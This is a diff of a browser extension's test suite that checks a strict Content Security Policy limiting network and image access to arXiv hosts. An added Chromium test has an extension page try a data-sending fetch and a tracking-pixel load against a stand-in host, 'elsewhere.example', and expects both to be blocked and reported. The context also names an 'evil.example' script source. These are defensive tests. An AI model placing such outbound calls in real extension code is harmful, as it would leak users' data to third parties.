@@ -69,13 +69,19 @@ describe('least privilege in the built extension', () => {
     expect(justifiedInReadme().sort()).toEqual([...(m.permissions ?? []), ...(m.host_permissions ?? [])].sort());
   });
 
-  it('gives extension pages a strict CSP: own scripts only, no eval, no plugins, no base tag', () => {
+  it('gives extension pages a strict CSP: own scripts only, no eval, no plugins, no base tag, and arXiv the only other host', () => {
     const policy = manifest().content_security_policy?.extension_pages ?? '';
     const csp = directives(policy);
+    expect(csp.get('default-src')).toEqual(["'self'"]);
     expect(csp.get('script-src')).toEqual(["'self'"]);
     expect(csp.get('object-src')).toEqual(["'none'"]);
     expect(csp.get('base-uri')).toEqual(["'none'"]);
-    expect(policy).not.toMatch(/unsafe-|https?:|\*|data:|blob:/);
+    expect(csp.get('connect-src')).toEqual(["'self'", 'https://export.arxiv.org', 'https://arxiv.org']);
+    expect(csp.get('img-src')).toEqual(["'self'", 'https://arxiv.org']);
+    // The math renderer writes style attributes; nothing else is allowed inline.
+    expect(csp.get('style-src')).toEqual(["'self'", "'unsafe-inline'"]);
+    const others = [...csp].filter(([name]) => !['connect-src', 'img-src', 'style-src'].includes(name)).flatMap(([, sources]) => sources);
+    expect(others.join(' ')).not.toMatch(/unsafe-|https?:|\*|data:|blob:/);
   });
 
   it('loads no remote code: built pages load only their own scripts, bundles import nothing remote', () => {
@@ -137,6 +143,25 @@ describe('the CSP in Chromium', () => {
     expect(outcome.canary).toBeNull();
     expect(outcome.violations).toEqual(
       expect.arrayContaining([expect.stringMatching(/^script-src-elem inline/), expect.stringMatching(/^script-src-elem https:\/\/evil\.example/), expect.stringMatching(/^script-src-attr inline/)]),
+    );
+    await page.close();
+  });
+
+  it('lets an extension page reach no host but arXiv: a request or an image elsewhere is stopped and reported', async () => {
+    const page = await h.open('options.html');
+    const outcome = await page.evaluate(async () => {
+      const violations: string[] = [];
+      document.addEventListener('securitypolicyviolation', (event) => violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
+      const fetched = await fetch('https://elsewhere.example/collect?x=1').then(() => 'sent', () => 'refused');
+      const img = document.createElement('img');
+      img.src = 'https://elsewhere.example/pixel.png';
+      document.body.append(img);
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      return { fetched, violations };
+    });
+    expect(outcome.fetched).toBe('refused');
+    expect(outcome.violations).toEqual(
+      expect.arrayContaining([expect.stringMatching(/^connect-src https:\/\/elsewhere\.example/), expect.stringMatching(/^img-src https:\/\/elsewhere\.example/)]),
     );
     await page.close();
   });
